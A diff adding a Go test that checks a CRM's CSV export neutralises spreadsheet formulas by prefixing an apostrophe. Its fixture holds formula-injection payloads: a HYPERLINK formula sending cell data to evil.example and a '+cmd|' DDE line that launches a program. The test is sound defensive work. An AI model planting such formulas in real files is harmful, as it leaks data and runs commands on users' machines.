@@ -11,6 +11,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -604,6 +605,55 @@ func TestExportImportRoundTrip(t *testing.T) {
 	_, err = c.run("export", "-filter", `colour = "red"`, "accounts")
 	if err == nil || !strings.Contains(err.Error(), "InvalidArgument") {
 		t.Errorf("bad filter: %v", err)
+	}
+}
+
+// A field a CRM user typed that a spreadsheet would run as a formula is
+// exported after an apostrophe (text, to the spreadsheet), and the export
+// imports back as unchanged.
+func TestExportNeutralizesFormulas(t *testing.T) {
+	t.Parallel()
+	c := startCRM(t)
+	leads := "name,email,company,source,status,owner\n" +
+		`"=HYPERLINK(""https://evil.example/?""&A2,""Details"")",f1@example.com,Co,web,new,ana` + "\n" +
+		"@SUM(A1:A9),f2@example.com,+cmd|' /C calc'!A0,web,new,ana\n" +
+		"-2+3,f3@example.com,Plain Co,web,new,ana\n"
+	if out, err := c.run("import", "leads", c.file("formulas.csv", leads)); err != nil {
+		t.Fatalf("import: %v\n%s", err, out)
+	}
+	exported := filepath.Join(c.dir, "formulas-export.csv")
+	if out, err := c.run("export", "-o", exported, "leads"); err != nil {
+		t.Fatalf("export: %v\n%s", err, out)
+	}
+	raw, err := os.ReadFile(exported)
+	if err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(strings.NewReader(string(raw))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range records[1:] {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				if _, err := strconv.ParseFloat(cell, 64); err != nil {
+					t.Errorf("exported cell %q starts a formula", cell)
+				}
+			}
+		}
+	}
+	for _, want := range []string{`'=HYPERLINK(`, `'@SUM(A1:A9)`, `'+cmd|`, `'-2+3`} {
+		if !strings.Contains(string(raw), want) {
+			t.Errorf("export has no %s:\n%s", want, raw)
+		}
+	}
+	out, err := c.run("import", "leads", exported)
+	if err != nil {
+		t.Fatalf("import of the export: %v\n%s", err, out)
+	}
+	wantContains(t, out, "leads: 3 rows: 0 created, 0 updated, 3 unchanged, 0 bad")
+	if n := c.count(`SELECT count(*) FROM leads WHERE name = '@SUM(A1:A9)' AND company LIKE '+cmd%'`); n != 1 {
+		t.Errorf("the formulas' text was not kept as typed")
 	}
 }
 
